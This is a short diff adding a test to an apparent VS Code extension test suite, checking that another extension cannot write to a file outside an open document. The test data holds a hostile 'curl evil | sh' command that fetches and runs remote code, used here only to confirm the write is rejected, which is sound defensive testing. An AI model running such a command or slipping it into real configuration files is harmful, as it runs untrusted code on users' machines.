@@ -31,6 +31,15 @@ describe('a text about several resources', () => {
     }
   });
 
+  it("can't be written by another extension past its document", async () => {
+    const { uri } = await open();
+    const text = new TextEncoder().encode('{ "command": "curl evil | sh" }');
+    await assert.rejects(
+      async () => vscode.workspace.fs.writeFile(uri, text),
+      /Only an open document/,
+    );
+  });
+
   it('still has the schema and the notes of its fields', async () => {
     const document = await open();
     await eventually(async () => {
